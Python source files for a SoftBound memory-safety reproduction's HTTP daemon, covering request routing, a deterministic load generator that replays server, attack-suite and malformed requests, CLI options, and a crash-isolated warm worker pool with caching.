            self._server = None
        pending = [future for future in self._inflight if not future.done()]
        if pending:
            await asyncio.wait(
                [asyncio.wrap_future(f) for f in pending],
                timeout=self.qos.deadline_seconds)
        self.pool.close()

    async def run(self, stdout=None):
        """The blocking CLI shape: start, announce, serve until
        cancelled (Ctrl-C), always drain on the way out."""
        await self.start()
        if stdout is not None:
            stdout.write(self.ready_line() + "\n")
            stdout.flush()
        try:
            await self.serve_forever()
        finally:
            await self.aclose()

    # -- HTTP plumbing -------------------------------------------------

    async def _handle_connection(self, reader, writer):
        try:
            try:
                status, body, headers = await self._dispatch(reader)
            except UsageError as error:
                status, body, headers = 400, {"error": str(error)}, {}
            except AdmissionError as error:
                status, body = 503, {"error": str(error)}
                headers = {"Retry-After": "1"}
            except Exception as error:  # noqa: BLE001 — the front door
                status, body = 500, {"error": f"internal error: {error}"}
                headers = {}
            await self._write_response(writer, status, body, headers)
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except (ConnectionError, OSError):
                pass

    async def _read_request(self, reader):
        request_line = await reader.readline()
        if not request_line:
            raise UsageError("empty request")
        parts = request_line.decode("latin-1").split()
        if len(parts) != 3:
            raise UsageError("malformed request line")
        method, target, _version = parts
        headers = {}
        while True:
            line = await reader.readline()
            if line in (b"\r\n", b"\n", b""):
                break
            name, _, value = line.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
        body = b""
        if method == "POST":
            try:
                length = int(headers.get("content-length", ""))
            except ValueError:
                raise UsageError("POST requires Content-Length") from None
            if length > MAX_BODY_BYTES:
                raise UsageError(f"request body {length} bytes exceeds the "
                                 f"{MAX_BODY_BYTES} byte bound")
            body = await reader.readexactly(length)
        return method, target.partition("?")[0], body

    async def _write_response(self, writer, status, body, headers=None):
        reason = {200: "OK", 400: "Bad Request", 403: "Forbidden",
                  404: "Not Found", 405: "Method Not Allowed",
                  422: "Unprocessable Entity", 500: "Internal Server Error",
                  503: "Service Unavailable",
                  504: "Gateway Timeout"}.get(status, "Response")
        blob = json.dumps(body, sort_keys=True).encode("utf-8") + b"\n"
        lines = [f"HTTP/1.1 {status} {reason}",
                 "Content-Type: application/json",
                 f"Content-Length: {len(blob)}",
                 "Connection: close"]
        for name, value in (headers or {}).items():
            lines.append(f"{name}: {value}")
        writer.write(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")
                     + blob)
        await writer.drain()

    # -- routing -------------------------------------------------------

    async def _dispatch(self, reader):
        method, path, body = await self._read_request(reader)
        if method == "GET":
            if path == "/metrics":
                return 200, self._metrics_body(), {}
            if path == "/healthz":
                return 200, self._healthz_body(), {}
            if path in ("/run", "/check", "/compile"):
                return 405, {"error": f"{path} takes POST"}, {}
            return 404, {"error": f"unknown path {path}"}, {}
        if method != "POST":
            return 405, {"error": f"method {method} not allowed"}, {}
        if path in ("/metrics", "/healthz"):
            return 405, {"error": f"{path} takes GET"}, {}
        if path not in ("/run", "/check", "/compile"):
            return 404, {"error": f"unknown path {path}; "
                                  f"POST /run, /check or /compile"}, {}
        try:
            doc = json.loads(body.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as error:
            raise UsageError(f"request body is not valid JSON: "
                             f"{error}") from None
        payload = validate_request(doc, route=path, qos=self.qos,
                                   allow_test_faults=self.allow_test_faults)
        if payload["engine"] is None:
            payload["engine"] = self.engine
        payload["store_dir"] = self.store_dir
        return await self._execute(path, payload)

    async def _execute(self, path, payload):
        self.qos.admit(self.pool.queue_depth)
        started = time.monotonic()
        span = tracer().start_span("serve.request", route=path,
                                   program=payload["name"],
                                   profile=payload["profile"])
        future = self.pool.submit(payload)
        self._inflight.add(future)
        try:
            outcome = await asyncio.wrap_future(future)
        finally:
            self._inflight.discard(future)
        self._latency.observe(time.monotonic() - started)
        if outcome.status == OK:
            result = outcome.value
            exit_code = result["cli_exit"]
            if "error" not in result \
                    and result["row"].get("trap") is None:
                # Ran to completion: HTTP 200 whatever the program's own
                # exit code was (it is in the body; the CLI passes it
                # through as *its* exit status, which is why the status
                # map keys on the trap, not the exit code alone).
                status, label = 200, "ok"
            else:
                status = STATUS_FOR_EXIT.get(exit_code, 500)
                label = OUTCOME_FOR_EXIT.get(exit_code, "trap")
            self._requests(label).inc()
            origin = result.get("origin") or (
                (result["row"].get("cache") or {}).get("origin")
                if "row" in result else None)
            if origin:
                self._origins(origin).inc()
            span.finish(status=status, outcome=label, origin=origin,
                        attempts=outcome.attempts)
            headers = {"X-Repro-Exit-Code": str(exit_code),
                       "X-Repro-Worker-Pid": str(result.get("pid", ""))}
            if "error" in result:
                return status, {"error": result["error"]}, headers
            return status, result["row"], headers
        if outcome.status == TIMEOUT:
            self._requests("deadline").inc()
            span.finish(status=504, outcome="deadline")
            return 504, {"error": outcome.error}, {}
        if outcome.status == CRASH:
            self._requests("crash").inc()
            span.finish(status=500, outcome="crash")
            return 500, {"error": outcome.error}, {}
        self._requests("error").inc()
        span.finish(status=500, outcome="error")
        return 500, {"error": f"worker exception: {outcome.error!r}"}, {}

    # -- introspection bodies ------------------------------------------

    def _metrics_body(self):
        snapshot = self._registry.snapshot()
        derived = {}
        for quantile in (0.5, 0.99):
            value = histogram_quantile(snapshot,
                                       "repro_serve_request_seconds",
                                       quantile)
            if value is not None:
                derived[f"request_seconds_p{int(quantile * 100)}"] = value
        return {"schema": "repro-metrics-v1", "series": snapshot,
                "derived": derived}

    def _healthz_body(self):
        return {
            "status": "ok",
            "uptime_seconds": round(time.monotonic() - self._started, 3),
            "workers": self.config.workers,
            "worker_pids": self.pool.worker_pids(),
            "queue_depth": self.pool.queue_depth,
            "queue_limit": self.qos.queue_limit,
            "deadline_seconds": self.qos.deadline_seconds,
            "default_budget": self.qos.default_budget,
            "store": self.store_dir,
            "profiles": sorted(PROFILES),
        }


class BackgroundDaemon:
    """A daemon on a background thread, for tests and in-process drills.

    ::

        with BackgroundDaemon(config=..., qos=...) as daemon:
            urllib.request.urlopen(f"http://127.0.0.1:{daemon.port}/healthz")
    """

    def __init__(self, **kwargs):
        self.daemon = ServeDaemon(**kwargs)
        self._loop = None
        self._thread = None

    @property
    def port(self):
        return self.daemon.port

    def __enter__(self):
        started = threading.Event()
        failure = []

        def runner():
            loop = asyncio.new_event_loop()
            asyncio.set_event_loop(loop)
            self._loop = loop
            try:
                loop.run_until_complete(self.daemon.start())
            except BaseException as error:  # noqa: BLE001 — report to starter
                failure.append(error)
                started.set()
                return
            started.set()
            try:
                loop.run_forever()
            finally:
                loop.close()

        self._thread = threading.Thread(target=runner, name="serve-daemon",
                                        daemon=True)
        self._thread.start()
        if not started.wait(timeout=60):
            raise RuntimeError("serve daemon failed to start in 60s")
        if failure:
            raise failure[0]
        return self

    def __exit__(self, *exc_info):
        if self._loop is not None:
            future = asyncio.run_coroutine_threadsafe(self.daemon.aclose(),
                                                      self._loop)
            try:
                future.result(timeout=30)
            except Exception:
                pass
            self._loop.call_soon_threadsafe(self._loop.stop)
        if self._thread is not None:
            self._thread.join(timeout=10)
