"""Deterministic traffic generation for the serve daemon.

The paper's compatibility study drove SoftBound-protected *servers*
(tinyftp, nhttpd) with request streams; this module drives the
*service* with a mixed stream grown out of those same workloads:

* the two server programs replayed under escalating protection
  profiles, each response checked against the workload's expected
  output fragments;
* the Wilander attack suite under full protection — every request is
  hostile and must come back 403 (detection is the service working);
* the BugBench programs under full protection (detected → 403, the
  paper's known-missed bugs → 200);
* deliberately malformed requests that must be rejected 400 before a
  worker is ever involved.

The mix is built from a seed (``random.Random(seed)`` shuffle) so two
runs against two builds replay byte-identical traffic — the load
numbers in ``BENCH_serve.json`` are comparable across commits.  The
driver is a plain thread pool over ``urllib`` (standard library only),
recording per-request status + latency.
"""

import base64
import json
import random
import threading
import time
import urllib.error
import urllib.request
from dataclasses import dataclass, field

DEFAULT_SEED = 20090615  # PLDI'09

#: Per-request client timeout (seconds) — comfortably past the QoS
#: deadline so the daemon, not the client, decides 504s.
CLIENT_TIMEOUT = 60.0


@dataclass(frozen=True)
class TrafficItem:
    """One request in the mix, with its acceptance oracle."""

    name: str
    category: str  # "server" | "clean" | "attack" | "bugbench" | "malformed"
    route: str
    #: JSON document to POST, or a raw bytes body for malformed items.
    doc: object
    expect_status: tuple
    expect_fragments: tuple = ()


@dataclass
class RequestSample:
    """What one request actually did."""

    name: str
    category: str
    status: int
    seconds: float
    ok: bool
    detail: str = ""


@dataclass
class LoadResult:
    """All samples from one generator run plus the wall time."""

    samples: list = field(default_factory=list)
    wall_seconds: float = 0.0

    @property
    def requests_per_second(self):
        if self.wall_seconds <= 0:
            return 0.0
        return len(self.samples) / self.wall_seconds

    @property
    def errors(self):
        return [s for s in self.samples if not s.ok]

    def latencies(self, category=None):
        return sorted(s.seconds for s in self.samples
                      if category is None or s.category == category)

    def percentile(self, quantile, category=None):
        """Nearest-rank percentile over recorded latencies (seconds)."""
        ordered = self.latencies(category)
        if not ordered:
            return 0.0
        rank = max(int(round(quantile * len(ordered) + 0.5)) - 1, 0)
        return ordered[min(rank, len(ordered) - 1)]

    def by_category(self):
        out = {}
        for sample in self.samples:
            out.setdefault(sample.category, []).append(sample)
        return out


def _server_items():
    from ..workloads.servers import SERVERS

    items = []
    for program in SERVERS:
        for profile in ("none", "spatial", "full"):
            items.append(TrafficItem(
                name=f"{program.name}-{profile}",
                category="server",
                route="/run",
                doc={
                    "name": program.name,
                    "source": program.source,
                    "profile": profile,
                    "input_b64": base64.b64encode(
                        program.request_stream).decode("ascii"),
                },
                expect_status=(200,),
                expect_fragments=tuple(program.expected_output_fragments)))
    return items


def _attack_items(limit=None):
    from ..workloads.attacks import all_attacks

    attacks = all_attacks()
    if limit is not None:
        attacks = attacks[:limit]
    return [TrafficItem(
        name=f"attack-{attack.name}",
        category="attack",
        route="/run",
        doc={"name": attack.name, "source": attack.source,
             "profile": "full"},
        expect_status=(403,)) for attack in attacks]


def _bugbench_items(limit=None):
    from ..workloads.bugbench import all_bugs

    bugs = all_bugs()
    if limit is not None:
        bugs = bugs[:limit]
    # Detection is profile-dependent (the paper's Table 4): accept
    # either verdict here — correctness of the verdicts themselves is
    # the detection matrix's test, not the load harness's.
    return [TrafficItem(
        name=f"bugbench-{bug.name}",
        category="bugbench",
        route="/run",
        doc={"name": bug.name, "source": bug.source, "profile": "full"},
        expect_status=(200, 403, 500)) for bug in bugs]


def _malformed_items():
    return [
        TrafficItem(name="malformed-not-json", category="malformed",
                    route="/run", doc=b"{not json",
                    expect_status=(400,)),
        TrafficItem(name="malformed-unknown-field", category="malformed",
                    route="/run",
                    doc={"source": "int main(void){return 0;}",
                         "profle": "spatial"},
                    expect_status=(400,)),
        TrafficItem(name="malformed-bad-profile", category="malformed",
                    route="/run",
                    doc={"source": "int main(void){return 0;}",
                         "profile": "no-such-profile"},
                    expect_status=(400,)),
        TrafficItem(name="malformed-no-source", category="malformed",
                    route="/run", doc={"profile": "spatial"},
                    expect_status=(400,)),
    ]


def build_mix(seed=DEFAULT_SEED, servers=True, attacks=6, bugs=4,
              malformed=True, repeats=1):
    """The deterministic request mix: same seed → byte-identical
    traffic, shuffled so categories interleave the way real traffic
    would.  ``attacks``/``bugs`` bound how many of each suite ride
    along (None → all); ``repeats`` replays the whole mix N times
    (cache-warm iterations for throughput measurement)."""
    items = []
    if servers:
        items.extend(_server_items())
    items.extend(_attack_items(limit=attacks))
    items.extend(_bugbench_items(limit=bugs))
    if malformed:
        items.extend(_malformed_items())
    rng = random.Random(seed)
    mix = []
    for _ in range(max(int(repeats), 1)):
        batch = list(items)
        rng.shuffle(batch)
        mix.extend(batch)
    return mix


def _drive_one(base_url, item):
    if isinstance(item.doc, (bytes, bytearray)):
        body = bytes(item.doc)
    else:
        body = json.dumps(item.doc, sort_keys=True).encode("utf-8")
    request = urllib.request.Request(
        base_url.rstrip("/") + item.route, data=body, method="POST",
        headers={"Content-Type": "application/json"})
    started = time.perf_counter()
    try:
        with urllib.request.urlopen(request, timeout=CLIENT_TIMEOUT) as resp:
            status, payload = resp.status, resp.read()
    except urllib.error.HTTPError as error:
        status, payload = error.code, error.read()
    except (urllib.error.URLError, TimeoutError, OSError) as error:
        seconds = time.perf_counter() - started
        return RequestSample(name=item.name, category=item.category,
                             status=0, seconds=seconds, ok=False,
                             detail=f"transport error: {error}")
    seconds = time.perf_counter() - started
    ok = status in item.expect_status
    detail = "" if ok else f"status {status} not in {item.expect_status}"
    if ok and item.expect_fragments:
        try:
            output = json.loads(payload).get("output") or ""
        except (ValueError, AttributeError):
            output = ""
        missing = [f for f in item.expect_fragments if f not in output]
        if missing:
            ok = False
            detail = f"output missing fragments: {missing}"
    return RequestSample(name=item.name, category=item.category,
                         status=status, seconds=seconds, ok=ok,
                         detail=detail)


def run_load(base_url, items, concurrency=4):
    """Drive ``items`` against a running daemon with ``concurrency``
    client threads; returns a :class:`LoadResult`.  Requests are issued
    in mix order (a shared cursor), so the interleaving — unlike the
    per-request timings — is deterministic per seed."""
    items = list(items)
    samples = [None] * len(items)
    cursor = [0]
    lock = threading.Lock()

    def client():
        while True:
            with lock:
                index = cursor[0]
                if index >= len(items):
                    return
                cursor[0] += 1
            samples[index] = _drive_one(base_url, items[index])

    threads = [threading.Thread(target=client, name=f"loadgen-{n}",
                                daemon=True)
               for n in range(max(int(concurrency), 1))]
    started = time.perf_counter()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    wall = time.perf_counter() - started
    return LoadResult(samples=[s for s in samples if s is not None],
                      wall_seconds=wall)
