"""The ``serve`` subcommand: argument surface + daemon bootstrap.

Kept separate from :mod:`repro.cli` (like ``fuzz`` and ``cache``) so
``python -m repro --help`` stays fast: nothing here imports asyncio or
the pool until the subcommand actually runs.
"""

import asyncio


def add_serve_parser(sub):
    parser = sub.add_parser(
        "serve",
        help="run the safety-as-a-service HTTP daemon: POST C programs "
             "to /run, /check or /compile and get RunReport JSON back "
             "from a warm worker pool (see docs/SERVE.md)")
    parser.add_argument("--host", default=None,
                        help="bind address (default: REPRO_SERVE_HOST or "
                             "127.0.0.1 — loopback only by design)")
    parser.add_argument("--port", default=None,
                        help="TCP port; 0 asks the OS for a free one and "
                             "prints it on the ready line (default: "
                             "REPRO_SERVE_PORT or 0)")
    parser.add_argument("--workers", default=None, metavar="N",
                        help="warm worker processes (default: "
                             "REPRO_SERVE_WORKERS or 2)")
    parser.add_argument("--queue", default=None, metavar="N",
                        help="admission queue bound; past it requests are "
                             "shed with 503 (default: REPRO_SERVE_QUEUE "
                             "or 16)")
    parser.add_argument("--budget", type=int, default=None, metavar="N",
                        help="default per-request VM instruction budget "
                             "(default: 50M)")
    parser.add_argument("--max-budget", type=int, default=None, metavar="N",
                        help="hard per-request instruction ceiling; "
                             "requests asking past it are rejected 400 "
                             "(default: 200M)")
    parser.add_argument("--deadline", type=float, default=None,
                        metavar="SECONDS",
                        help="wallclock deadline per request; a worker "
                             "past it is SIGKILLed and the request "
                             "resolves 504 (default: 30)")
    parser.add_argument("--store", metavar="DIR", default=None,
                        help="persistent artifact store shared by all "
                             "workers (default: REPRO_STORE, else no "
                             "store)")
    parser.add_argument("--engine", choices=("compiled", "interp"),
                        default=None,
                        help="default VM engine for requests that do not "
                             "pick one")
    parser.add_argument("--allow-test-faults", action="store_true",
                        help="honor the 'test_fault' request field (hang/"
                             "exit chaos drills); never enable in real "
                             "deployments")
    return parser


def run_serve(args, stdout, stderr):
    from ..api.env import resolve_serve
    from ..api.profiles import UsageError
    from .qos import (DEFAULT_BUDGET, DEFAULT_DEADLINE, MAX_BUDGET,
                      QosPolicy)
    from .server import ServeDaemon

    try:
        config = resolve_serve(host=args.host, port=args.port,
                               workers=args.workers, queue=args.queue)
        budget = DEFAULT_BUDGET if args.budget is None else args.budget
        max_budget = MAX_BUDGET if args.max_budget is None \
            else args.max_budget
        if budget <= 0 or max_budget <= 0 or budget > max_budget:
            raise UsageError(f"budgets must be positive with "
                             f"--budget <= --max-budget "
                             f"(got {budget} / {max_budget})")
        deadline = DEFAULT_DEADLINE if args.deadline is None \
            else args.deadline
        if deadline <= 0:
            raise UsageError(f"--deadline must be positive, got {deadline}")
        qos = QosPolicy(default_budget=budget, max_budget=max_budget,
                        deadline_seconds=deadline,
                        queue_limit=config.queue)
    except UsageError as error:
        print(f"error: {error}", file=stderr)
        from ..cli import EX_USAGE

        return EX_USAGE
    daemon = ServeDaemon(config=config, qos=qos, store_dir=args.store,
                         engine=args.engine,
                         allow_test_faults=args.allow_test_faults)
    try:
        asyncio.run(daemon.run(stdout=stdout))
    except KeyboardInterrupt:
        # asyncio.run already cancelled the main task, which ran
        # aclose() in its finally: in-flight requests got one deadline
        # to finish and the pool is down.  Report the drain and exit
        # with the conventional SIGINT status.
        print("serve: interrupted — drained in-flight requests and "
              "stopped", file=stderr)
        return 130
    return 0
