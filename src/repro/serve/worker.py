"""Serve worker entry point: ``python -m repro.serve.worker``.

A warm :mod:`repro.fuzz.worker`: same length-prefixed pickle frame
protocol, same stdout re-routing, but the toolchain, the policy
registry and the worker-side compiled-program cache are all imported
and built *before* the first frame is read — so the first request a
fresh (or respawned) worker serves pays no import cost.
"""

import sys

from ..fuzz.worker import main as frame_loop
from .workers import warmup


def main():
    warmup()
    return frame_loop()


if __name__ == "__main__":
    sys.exit(main())
