"""``repro.serve`` — safety-as-a-service: the long-lived daemon.

The paper's compatibility case study ran SoftBound under network
daemons; this package turns the reproduction itself into one.
``python -m repro serve`` starts an HTTP front-end
(:mod:`~repro.serve.server`) that accepts compile/check/run requests
(JSON in, :meth:`~repro.api.reports.RunReport.to_json`-shaped JSON out)
and executes them on a pool of persistent, crash-isolated worker
processes (:mod:`~repro.serve.workers`) under per-request QoS budgets
(:mod:`~repro.serve.qos`).  :mod:`~repro.serve.loadgen` is the matching
deterministic traffic generator the benchmark and smoke drills drive
the daemon with.

See ``docs/SERVE.md`` for the wire API, the status/degradation matrix
and the ops runbook.
"""

from .qos import AdmissionError, QosPolicy
from .workers import WarmPool

__all__ = ["AdmissionError", "QosPolicy", "WarmPool"]
