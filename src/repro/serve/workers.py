"""Warm worker pool + the worker-side request executor.

The daemon never compiles or runs untrusted C in its own process: every
request is shipped to one of a fixed set of persistent worker
subprocesses (``python -m repro.serve.worker``) speaking the
:mod:`repro.fuzz.pool` length-prefixed pickle frame protocol.  The pool
grows that module's batch-oriented kill discipline into a long-lived
submit/await shape:

* **Warm.**  Workers are spawned eagerly at daemon boot and pre-import
  the whole toolchain (:mod:`repro.serve.worker`), so the first request
  pays no import cost; a respawned worker re-warms the same way.
* **Isolated.**  A worker past its wallclock deadline is SIGKILLed and
  the request resolves ``timeout``; a worker that dies mid-request
  (segfault, OOM kill, chaos drill) is detected by pipe EOF, respawned,
  and the request — pure compile+run, so idempotent — is retried once
  on another attempt before resolving ``crash``.  Other in-flight
  requests never notice: each worker slot owns a private pipe pair.
* **Shared artifacts, three cache levels.**  Inside each worker a
  sharded, size-bounded LRU (:class:`repro.store.LRUCache` per shard)
  fronts the persistent artifact store (``REPRO_STORE``), which all
  workers share; a cold key is compiled **once** per store thanks to
  single-flight coalescing (:func:`compile_coalesced`): the first
  worker takes an advisory flight lock and compiles while the herd
  blocks on the lock, re-checks the store, and loads the bytes the
  winner wrote.

Metrics: ``repro_serve_queue_depth`` / ``repro_serve_inflight`` gauges
and ``repro_serve_worker_{spawns,kills,respawns}_total`` counters.
"""

import concurrent.futures
import os
import queue
import sys
import threading
import time

from ..fuzz.pool import _Deadline, _Worker, _WorkerDied
from ..obs.metrics import default_registry

#: Statuses a pool outcome can carry (the serve degradation taxonomy).
OK = "ok"
TIMEOUT = "timeout"
CRASH = "crash"
ERROR = "error"

#: How long a cold-key loser waits on the winner's flight lock before
#: degrading to its own compile (liveness beats dedup).
COALESCE_WAIT_SECONDS = 120.0

#: Worker-side compiled-program cache geometry: ``SHARDS`` independent
#: LRUs so one hot profile cannot evict everything else, each bounded.
CACHE_SHARDS = 8
CACHE_ENTRIES_PER_SHARD = 32

_task_call = "repro.serve.workers:execute_serve_request"


class PoolClosed(Exception):
    """Submit after close (daemon shutting down)."""


class Outcome:
    """What happened to one submitted request."""

    __slots__ = ("status", "value", "error", "attempts", "elapsed")

    def __init__(self, status, value=None, error=None, attempts=1,
                 elapsed=0.0):
        self.status = status
        self.value = value
        self.error = error
        self.attempts = attempts
        self.elapsed = elapsed

    @property
    def ok(self):
        return self.status == OK


def default_worker_command():
    return [sys.executable, "-m", "repro.serve.worker"]


def _worker_env():
    """Environment for worker subprocesses: the repo importable, and
    everything else (REPRO_STORE, REPRO_TRACE, REPRO_PLUGINS) inherited
    so workers share the parent's store, trace sink and plugins."""
    env = dict(os.environ)
    src_root = os.path.dirname(os.path.dirname(os.path.dirname(
        os.path.abspath(__file__))))
    existing = env.get("PYTHONPATH")
    if not existing:
        env["PYTHONPATH"] = src_root
    elif src_root not in existing.split(os.pathsep):
        env["PYTHONPATH"] = src_root + os.pathsep + existing
    return env


class WarmPool:
    """A fixed-width pool of warm, crash-isolated serve workers.

    :meth:`submit` enqueues one request payload and returns a
    ``concurrent.futures.Future`` resolving to an :class:`Outcome`; the
    asyncio front-end awaits it via ``asyncio.wrap_future``.  The pool
    never raises for request-level failures — those are outcome
    statuses the server maps to HTTP responses.
    """

    def __init__(self, workers=2, deadline=30.0, env=None, worker_cmd=None,
                 retries=1):
        self.workers = max(int(workers), 1)
        self.deadline = deadline
        self.retries = max(int(retries), 0)
        self._cmd = list(worker_cmd) if worker_cmd \
            else default_worker_command()
        self._env = dict(env) if env is not None else _worker_env()
        self._queue = queue.Queue()
        self._slots = [None] * self.workers
        self._threads = []
        self._closed = False
        self._lock = threading.Lock()
        registry = default_registry()
        self._depth_gauge = registry.gauge("repro_serve_queue_depth")
        self._inflight_gauge = registry.gauge("repro_serve_inflight")
        self._pool_gauge = registry.gauge("repro_serve_workers")
        self._spawns = registry.counter("repro_serve_worker_spawns_total")
        self._kills = registry.counter("repro_serve_worker_kills_total")
        self._respawns = registry.counter("repro_serve_worker_respawns_total")

    # -- lifecycle -----------------------------------------------------

    def start(self):
        """Spawn every worker eagerly (they pre-import the toolchain on
        boot — that is the warmth) and start the drain threads."""
        self._pool_gauge.set(self.workers)
        for slot in range(self.workers):
            self._ensure_worker(slot)
            thread = threading.Thread(
                target=self._drain, args=(slot,),
                name=f"serve-pool-{slot}", daemon=True)
            thread.start()
            self._threads.append(thread)
        return self

    def close(self):
        self._closed = True
        for _ in self._threads:
            self._queue.put(None)
        for thread in self._threads:
            thread.join(timeout=5)
        with self._lock:
            for slot, worker in enumerate(self._slots):
                if worker is not None:
                    worker.kill()
                    self._slots[slot] = None

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        self.close()

    # -- introspection -------------------------------------------------

    @property
    def queue_depth(self):
        """Requests accepted but not yet being drained."""
        return self._queue.qsize()

    def worker_pids(self):
        """Live worker PIDs (the smoke drills kill one of these)."""
        with self._lock:
            return [worker.proc.pid for worker in self._slots
                    if worker is not None and worker.alive]

    # -- submission ----------------------------------------------------

    def submit(self, payload, deadline=None):
        """Enqueue one request; returns a Future[:class:`Outcome`]."""
        if self._closed:
            raise PoolClosed("worker pool is closed")
        future = concurrent.futures.Future()
        self._queue.put((future, payload,
                         self.deadline if deadline is None else deadline, 0))
        self._depth_gauge.set(self._queue.qsize())
        return future

    # -- drain loop ----------------------------------------------------

    def _ensure_worker(self, slot, respawn=False):
        with self._lock:
            worker = self._slots[slot]
            if worker is None or not worker.alive:
                worker = _Worker(self._cmd, self._env)
                self._slots[slot] = worker
                self._spawns.inc()
                if respawn:
                    self._respawns.inc()
            return worker

    def _retire_worker(self, slot):
        with self._lock:
            worker = self._slots[slot]
            self._slots[slot] = None
        if worker is not None:
            worker.kill()
            self._kills.inc()

    def _drain(self, slot):
        while True:
            try:
                item = self._queue.get(timeout=1.0)
            except queue.Empty:
                if self._closed:
                    return
                continue
            if item is None:
                return
            future, payload, deadline_s, attempt = item
            self._depth_gauge.set(self._queue.qsize())
            if attempt == 0 and not future.set_running_or_notify_cancel():
                continue  # cancelled while queued
            self._inflight_gauge.inc()
            try:
                self._run_one(slot, future, payload, deadline_s, attempt)
            finally:
                self._inflight_gauge.dec()

    def _run_one(self, slot, future, payload, deadline_s, attempt):
        started = time.monotonic()
        try:
            worker = self._ensure_worker(slot, respawn=attempt > 0)
            worker.send((id(future), _task_call, (payload,), {}))
            reply_id, status, value = worker.receive(started + deadline_s)
            while reply_id != id(future):  # stale reply from a past task
                reply_id, status, value = worker.receive(started + deadline_s)
        except _Deadline:
            self._retire_worker(slot)
            self._ensure_worker(slot, respawn=True)
            future.set_result(Outcome(
                TIMEOUT, error=f"no result within {deadline_s:.1f}s "
                               f"(worker killed and respawned)",
                attempts=attempt + 1,
                elapsed=time.monotonic() - started))
            return
        except _WorkerDied:
            self._retire_worker(slot)
            self._ensure_worker(slot, respawn=True)
            if attempt < self.retries:
                # Requests are pure compile+run — idempotent — so one
                # infra retry is safe; the retried request keeps its
                # original wallclock deadline budget from zero.
                self._queue.put((future, payload, deadline_s, attempt + 1))
                self._depth_gauge.set(self._queue.qsize())
                return
            future.set_result(Outcome(
                CRASH, error="worker process died (retry exhausted)",
                attempts=attempt + 1,
                elapsed=time.monotonic() - started))
            return
        elapsed = time.monotonic() - started
        if status == "ok":
            future.set_result(Outcome(OK, value=value,
                                      attempts=attempt + 1, elapsed=elapsed))
        else:
            # In-band exceptions are deterministic request failures
            # (bad program state the validators missed, a worker-side
            # bug): retrying cannot help, so resolve immediately.
            future.set_result(Outcome(ERROR, error=value,
                                      attempts=attempt + 1, elapsed=elapsed))


# ----------------------------------------------------------------------
# Worker-side execution (runs inside ``python -m repro.serve.worker``).

#: Per-process sharded compiled-program cache, created on first use.
_shards = None
_shard_lock = threading.Lock()
_store = None
_store_dir_opened = None


def _worker_cache():
    global _shards
    if _shards is None:
        from ..store import LRUCache

        with _shard_lock:
            if _shards is None:
                _shards = [LRUCache(max_entries=CACHE_ENTRIES_PER_SHARD)
                           for _ in range(CACHE_SHARDS)]
    return _shards


def _shard_for(key):
    return _worker_cache()[hash(key) % CACHE_SHARDS]


def worker_cache_counters():
    """Summed counters over every shard (the response cache block)."""
    totals = {"entries": 0, "hits": 0, "misses": 0, "evictions": 0}
    for shard in _worker_cache():
        counters = shard.counters()
        for name in totals:
            totals[name] += counters[name]
    totals["shards"] = CACHE_SHARDS
    return totals


def _open_store(store_dir):
    """The worker's store handle, reopened only when the directory
    changes (tests point one worker at several stores)."""
    global _store, _store_dir_opened
    if not store_dir:
        return None
    if _store is None or _store_dir_opened != store_dir:
        from ..store import ArtifactStore

        try:
            _store = ArtifactStore(store_dir)
            _store_dir_opened = store_dir
        except OSError:
            return None
    return _store


def compile_coalesced(source, profile, optimize=True, verify=True,
                      store=None, wait=COALESCE_WAIT_SECONDS):
    """Compile through the store with cold-key single-flight.

    On a store miss the caller takes an advisory *flight lock* (distinct
    from the store's internal entry lock, which the winner's ``save``
    takes itself) and re-checks the store once it holds it — so of N
    processes racing the same cold key, exactly one compiles and the
    rest load the winner's bytes.  A loser that cannot get the lock
    within ``wait`` compiles anyway: liveness beats dedup.  Returns
    ``(compiled, origin, fingerprint)`` with origin ``"store"`` or
    ``"compile"``; the fingerprint is the sha256 of the serialized
    artifact, taken *at the serialization boundary* — the store entry's
    own payload digest when the store is involved, a fresh pickle
    otherwise — because a program that has since been instantiated does
    not re-pickle canonically (or at all).
    """
    from ..api.toolchain import Toolchain
    from ..store.format import compute_key

    def fresh_compile():
        return Toolchain(profile=profile, optimize=optimize,
                         verify=verify).compile(source)

    if store is None:
        compiled = fresh_compile()
        return compiled, "compile", compiled_fingerprint(compiled)
    key = compute_key(source, profile, optimize)
    compiled = store.load(source, profile, optimize)
    if compiled is not None:
        return compiled, "store", store.payload_sha256(key)
    from ..store.locks import FileLock

    lock_path = os.path.join(store.locks_dir, "flight." + key[:32] + ".lock")
    with FileLock(lock_path, timeout=wait) as acquired:
        if acquired:
            compiled = store.load(source, profile, optimize)
            if compiled is not None:
                return compiled, "store", store.payload_sha256(key)
        compiled = fresh_compile()
        if store.save(source, profile, optimize, compiled):
            return compiled, "compile", store.payload_sha256(key)
        # Degraded store (lock timeout, disk error): the in-process
        # artifact is still good, so fingerprint it directly.
        return compiled, "compile", compiled_fingerprint(compiled)


def execute_serve_request(payload):
    """Compile (three-level cached) and run one validated request.

    Runs inside the worker process.  ``payload`` is the dict the server
    validated: ``source``, ``profile`` (registered name), ``opt``,
    ``input`` (bytes), ``entry``, ``engine``, ``budget`` (the resolved
    instruction limit), ``store_dir`` and ``name``.  Returns a plain
    picklable dict: the ``RunReport.to_json()`` row (with a ``cache``
    block), the CLI exit code for the HTTP status mapping, and the
    worker pid (the kill drills target it).
    """
    fault = payload.get("test_fault")
    if fault == "hang":
        # Armed only when the daemon runs with --allow-test-faults: a
        # request wedged outside the VM, for the deadline-kill drill.
        time.sleep(3600)
    elif fault == "exit":
        # Worker suicide mid-request, for the respawn/retry drill.
        os._exit(17)

    from ..api.profiles import as_profile
    from ..api.session import run_compiled
    from ..cli import EX_COMPILE, exit_code_for
    from ..frontend.errors import FrontendError
    from ..harness.linker import LinkError
    from ..obs.trace import tracer

    profile = as_profile(payload["profile"])
    optimize = payload.get("opt", True)
    budget = payload["budget"]
    cache_key = (payload["source"], profile.cache_key(), optimize)
    shard = _shard_for(cache_key)
    cached = shard.get(cache_key)
    if cached is not None:
        compiled, fingerprint = cached
        origin = "memory"
    else:
        store = _open_store(payload.get("store_dir"))
        try:
            with tracer().span("serve.compile", profile=profile.name,
                               program=payload.get("name", "program")):
                compiled, origin, fingerprint = compile_coalesced(
                    payload["source"], profile, optimize=optimize,
                    store=store)
        except (FrontendError, LinkError) as error:
